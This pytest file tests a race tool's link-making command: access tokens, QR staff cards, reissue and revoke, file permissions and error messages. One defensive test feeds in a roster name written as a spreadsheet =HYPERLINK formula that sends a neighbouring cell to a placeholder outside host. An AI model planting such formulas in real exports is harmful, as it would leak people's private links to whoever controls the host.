"""``alongside links``: everybody's link, made once, shown once, for the mailer and the printer."""

from __future__ import annotations

import csv
import re
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from alongside.cli import main
from alongside.cli.links import first_link
from alongside.events.link import STAFF, Link, NewLink
from alongside.store.race_file import RaceFile
from alongside.supporters.factor import factor_digest
from alongside.web.doors import DOORS, digest_of
from alongside.web.qr import qr_svg

TOML = """
name = "River <Marathon>"
date = 2027-05-02
zone = "Europe/Berlin"
emergency = "+49 30 5550112"

[[distance]]
id = "full"
length = "42.195 km"
limit = "7:30"

[[wave]]
id = "1"
gun = "07:00"

[[mat]]
id = "start"
on = "full"
at = "0 km"

[[mat]]
id = "finish"
on = "full"
at = "42.195 km"

[[station]]
id = "w1"
name = "Water 1"
on = "full"
at = "10 km"

[[station]]
id = "w2"
name = "Water 2"
on = "full"
at = "20 km"

[[cheer]]
id = "hugs"
name = "Hug corner"
on = "full"
at = "40 km"

[[sweep]]
id = "bus"
name = "Sweep bus"
on = "full"
"""
ROSTER = """bib,name,adult,email,guardian,guardian email,persons
7,Ada Nimble,yes,ada@example.org,,,1
8,Bea Swift,no,,Dee Swift,dee@example.org,1
9,Cy Unknown,,cy@example.org,,,1
10,Eve Unknown,,,Fay Elder,fay@example.org,1
11,"Relay, first",yes,r1@example.org,,,2
11,"Relay, second",yes,r2@example.org,,,
"""
STAFF_LINKS = len(STAFF - {"station", "sweep", "cheer"}) + 2 + 1 + 1
BASE = "https://race.example"


@pytest.fixture
def race(tmp_path: Path) -> Path:
    """A small race folder."""
    folder = tmp_path / "race"
    folder.mkdir()
    (folder / "race.toml").write_text(TOML, encoding="utf-8")
    (folder / "roster.csv").write_text(ROSTER, encoding="utf-8")
    return folder


def run(race: Path, *options: str) -> Result:
    """Run ``alongside links`` as a user would."""
    return CliRunner().invoke(main, ["links", str(race), *options])


def rows(path: Path) -> list[dict[str, str]]:
    """Return a table's rows."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@pytest.fixture
def made(race: Path) -> Path:
    """A race whose links were made; its folder of links."""
    result = run(race, "--base-url", BASE + "/")
    assert result.exit_code == 0, result.output
    return race / "links"


@pytest.fixture
def file(race: Path) -> Iterator[RaceFile]:
    """The race's file, open beside the command as ``serve`` has it."""
    file = RaceFile(race / "race.db", lambda: 0)
    yield file
    file.close()


def link_at(file: RaceFile, address: str) -> Link:
    """Return the link of an address, and hold the address to its door."""
    found = re.fullmatch(rf"{BASE}/(\w+)/([\w-]{{22}})/", address)
    assert found, address
    link = file.link(digest_of(found[2]))
    assert link is not None and DOORS[link.role] == found[1]
    return link


def test_every_runner_has_a_line_for_the_mailer_and_her_link_opens_with_her_code(
    made: Path, file: RaceFile
) -> None:
    """One line a person, relay runners too; the code stands in a table of its own, for another mail."""
    lines = rows(made / "runners.csv")
    assert [(line["bib"], line["person"], line["email"]) for line in lines] == [
        ("7", "1", "ada@example.org"),
        ("8", "1", ""),
        ("9", "1", "cy@example.org"),
        ("10", "1", ""),
        ("11", "1", "r1@example.org"),
        ("11", "2", "r2@example.org"),
    ]
    codes = {(line["for"], line["bib"], line["person"]): line["code"] for line in rows(made / "codes.csv")}
    for line in lines:
        link = link_at(file, line["link"])
        assert (link.role, link.bib, str(link.position), link.needs_claim) == (
            "runner", line["bib"], line["person"], True,
        )  # fmt: skip
        code = codes["runner", line["bib"], line["person"]]
        assert file.factor_of(link.id) == factor_digest(code, link.bib, link.position)
    assert "code" not in lines[0]


def test_guardians_of_minors_have_links_and_of_unknown_age_where_the_roster_names_one(
    made: Path, file: RaceFile
) -> None:
    """No guardian for an adult, nor for a runner of unknown age for whom nobody is named."""
    lines = rows(made / "guardians.csv")
    assert [(line["bib"], line["guardian"], line["email"]) for line in lines] == [
        ("8", "Dee Swift", "dee@example.org"),
        ("10", "Fay Elder", "fay@example.org"),
    ]
    assert [link_at(file, line["link"]).holder for line in lines] == ["Dee Swift", "Fay Elder"]


def test_every_captain_has_a_link_of_her_role_and_place(made: Path, file: RaceFile) -> None:
    """One for each staff role, one for each station, cheer zone and sweep."""
    links = [link_at(file, line["link"]) for line in rows(made / "staff.csv")]
    assert len(links) == STAFF_LINKS and {link.role for link in links} == STAFF
    bound = {(link.role, link.scope) for link in links if link.scope}
    assert bound == {("station", "w1"), ("station", "w2"), ("cheer", "hugs"), ("sweep", "bus")}


def test_cards_carry_what_a_captain_needs_and_the_code_that_opens_her_page(made: Path) -> None:
    """Role, place, race, date, what the link does, the emergency line, the address; escaped, one file."""
    page = (made / "cards.html").read_text(encoding="utf-8")
    cards = page.split("<article")[1:]
    assert len(cards) == STAFF_LINKS and page.count('<section class="page">') == -(-STAFF_LINKS // 4)
    for line, card in zip(rows(made / "staff.csv"), cards, strict=True):
        text = " ".join(card.split())
        assert f"<h2>{line['role']}</h2>" in text and line["for"] in text
        assert "River &lt;Marathon&gt;, 2027-05-02" in text and "In an emergency call +49 30 5550112." in text
        assert line["link"].removeprefix("https://") in text
        assert str(qr_svg(line["link"])) in card
    assert "src=" not in page and "@import" not in page and "http-equiv" not in page


def test_only_the_owner_may_read_what_opens_every_page(made: Path) -> None:
    """The folder is 0700, its files 0600."""
    assert stat.S_IMODE(made.stat().st_mode) == 0o700
    assert {stat.S_IMODE(path.stat().st_mode) for path in made.iterdir()} == {0o600}


def test_no_token_is_kept_in_the_race_file(made: Path, race: Path, file: RaceFile) -> None:
    """Neither tokens nor codes are on disk but in these files: only their digests are."""
    kept = b"".join(path.read_bytes() for path in race.glob("race.db*"))
    secrets = [line["link"].split("/")[-2] for line in rows(made / "runners.csv")]
    secrets += [line["code"] for line in rows(made / "codes.csv")]
    assert kept and not any(secret.encode() in kept for secret in secrets)


def test_a_second_run_makes_only_what_is_missing_and_overwrites_nothing(
    made: Path, race: Path, file: RaceFile
) -> None:
    """Three weeks later two late entries: the first run's links hold, its files are as they were."""
    before = {path.name: path.read_bytes() for path in made.iterdir()}
    with (race / "roster.csv").open("a", encoding="utf-8") as roster:
        roster.write("12,Gus Late,yes,gus@example.org,,,1\n")
    result = run(race, "--base-url", BASE)
    assert f"{6 + 2 + STAFF_LINKS} links hold already" in result.output
    after = {path.name: path.read_bytes() for path in made.iterdir()}
    assert {name: after[name] for name in before} == before
    assert set(after) - set(before) == {"runners-2.csv", "codes-2.csv"}
    assert [line["bib"] for line in rows(made / "runners-2.csv")] == ["12"]


def test_reissue_makes_anew_and_ends_the_old(made: Path, race: Path, file: RaceFile) -> None:
    """A captain who lost the card of one station gets another; nobody else's link changes."""
    old = {link.scope: link for link in file.links("station")}
    assert run(race, "--base-url", BASE, "--station", "w2", "--reissue").exit_code == 0
    (line,) = rows(made / "staff-2.csv")
    new = link_at(file, line["link"])
    assert (new.scope, new.replaces) == ("w2", old["w2"].id)
    ended = [link.id for link in file.links() if link.ended_ms is not None]
    assert ended == [old["w2"].id]


@pytest.mark.parametrize("option", ["--reissue", "--new-code"])
def test_nobody_ends_everybodys_link_by_leaving_a_word_out(made: Path, race: Path, option: str) -> None:
    """A lost card needs one link anew; without whose, it says so, and every link holds."""
    result = run(race, "--base-url", BASE, option)
    assert result.exit_code == 1
    assert "would end the links of all" in result.output and "--role control" in result.output
    file = RaceFile(race / "race.db", lambda: 0)
    try:
        assert all(link.ended_ms is None for link in file.links())
    finally:
        file.close()


def test_whoever_the_mailer_cannot_reach_is_counted(race: Path) -> None:
    """A column that the roster spells otherwise would send nobody a link, and nobody would notice."""
    text = (race / "roster.csv").read_text(encoding="utf-8")
    (race / "roster.csv").write_text(text.replace("email", "letters", 1), encoding="utf-8")
    result = run(race, "--base-url", BASE)
    assert "6 of 6 runner links have no mail address" in result.output


def test_the_cards_say_how_a_lost_one_is_made_anew(made: Path) -> None:
    """With the race's own address, since a code that opens on the organiser's machine alone is none."""
    assert f"--base-url {BASE} --role ROLE --reissue" in (made / "cards.html").read_text(encoding="utf-8")


def test_at_packet_pick_up_one_link_is_printed_with_its_qr_and_the_old_one_ends(
    made: Path, race: Path, file: RaceFile
) -> None:
    """It opens with the code that she was mailed before; --new-code prints another."""
    (old,) = file.links("runner", "7")
    first = run(race, "--base-url", BASE, "--bib", "007")
    address = re.search(r"https://\S+", first.output)
    assert address and "█" in first.output and "code that was mailed" in first.output
    new = link_at(file, address[0])
    assert (new.replaces, file.factor_of(new.id)) == (old.id, file.factor_of(old.id))
    assert not (made / "runners-2.csv").exists()
    second = run(race, "--base-url", BASE, "--bib", "7", "--new-code")
    code = re.search(r"Its code: (\w{6})\.", second.output)
    last = file.links("runner", "7")[-1]
    assert code and file.factor_of(last.id) == factor_digest(code[1], "7", 1)
    assert [link.ended_ms is None for link in file.links("runner", "7")] == [False, False, True]


def test_a_name_that_is_a_formula_does_nothing_in_a_spreadsheet(race: Path) -> None:
    """Whoever enters as =HYPERLINK(...) must not get the links beside her sent to her server."""
    with (race / "roster.csv").open("a", encoding="utf-8") as roster:
        roster.write('13,"=HYPERLINK(""https://x.example/?""&E2)",yes,,@guardian,,1\n')
    run(race, "--base-url", BASE)
    cells = [cell for line in rows(race / "links" / "runners.csv") for cell in line.values()]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_list_tells_who_has_which_link_and_never_a_token(made: Path, race: Path, file: RaceFile) -> None:
    """Role, place, holder, times and openings; a token cannot be told again."""
    (van,) = file.links("van")
    file.opened(van.id, 1_777_800_000_000)
    file._openings.flush()
    file.end_link(van.id, 1_777_800_060_000).result()
    result = CliRunner(env={"COLUMNS": "200"}).invoke(main, ["links", str(race), "--list"])
    line = next(line for line in result.output.splitlines() if "Pick-up van" in line)
    assert line.split()[0] == str(van.id) and "2026-05-03 11:20" in line and "2026-05-03 11:21" in line
    tokens = [row["link"].split("/")[-2] for row in rows(made / "staff.csv")]
    assert not any(token in result.output for token in tokens)


def test_revoke_ends_by_id_and_names_an_id_that_is_not_there(made: Path, race: Path, file: RaceFile) -> None:
    """Ending from the command line holds for the server that runs beside it."""
    ids = [link.id for link in file.links("cheer") + file.links("van")]
    changes = file.link_changes()
    assert run(race, "--revoke", str(ids[0]), "--revoke", str(ids[1])).exit_code == 0
    assert all(file.link_of(id_).ended_ms for id_ in ids)  # type: ignore[union-attr]
    assert file.link_changes() != changes
    wrong = run(race, "--revoke", str(ids[0]), "--revoke", "9999")
    assert wrong.exit_code == 1 and "no link has the id 9999" in wrong.output


def test_revoke_ends_what_was_handed_on_too(made: Path, race: Path, file: RaceFile) -> None:
    """Whoever held a link wrongly may have copied it; who took over a link that ended before keeps hers."""
    van, sweep = (file.links(role)[0] for role in ("van", "sweep"))
    (first,) = file.put_links([NewLink("van", "d1", made_by=van.id)]).result()
    (second,) = file.put_links([NewLink("van", "d2", made_by=first)]).result()
    (after,) = file.put_links([NewLink("sweep", "d3", made_by=sweep.id, replaces=sweep.id)]).result()
    result = run(race, "--revoke", str(van.id), "--revoke", str(sweep.id))
    ended = [file.link_of(id_).ended_ms is not None for id_ in (van.id, first, second, after)]  # type: ignore[union-attr]
    assert ended == [True, True, True, False]
    assert f"(made from {first})" in result.output and f"Had ended already: {sweep.id}" in result.output


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (("--role", "boss"), "is no role"),
        (("--role", "follower"), "is no role"),
        (("--station", "w9"), "Its stations are w1, w2"),
        (("--bib", "999"), "--bib 999: nobody in this race fits that"),
        (("--base-url", "race.example"), "Write it as https://race.example"),
        (("--base-url", "https://race.example/?x=1"), "is no address"),
    ],
)
def test_what_cannot_be_done_is_said_in_a_sentence_and_changes_nothing(
    race: Path, options: tuple[str, ...], words: str
) -> None:
    """A wrong option makes no link and no file."""
    result = run(race, *options)
    assert result.exit_code == 1 and words in result.output
    assert not (race / "links").exists()


def test_a_folder_that_cannot_be_written_leaves_no_link_that_nobody_knows(race: Path, file: RaceFile) -> None:
    """Files come first: when they fail, no link was made, and the next run makes all."""
    (race / "taken").write_text("a file", encoding="utf-8")
    result = run(race, "--out", str(race / "taken"))
    assert result.exit_code == 1 and "Name another folder" in result.output
    assert file.links() == []


def test_the_default_address_is_said_to_be_for_trying(race: Path) -> None:
    """An organiser who forgets --base-url reads so before the mail goes out."""
    assert "open on this machine only, for trying" in run(race, "--role", "medical").output


def test_serve_and_links_do_not_make_each_others_links_twice(made: Path, file: RaceFile) -> None:
    """A race whose links were made has its control link; serve prints no other."""
    assert first_link(file, "control") is None
    file.end_link(file.links("control")[0].id, 1).result()
    assert first_link(file, "control") is not None
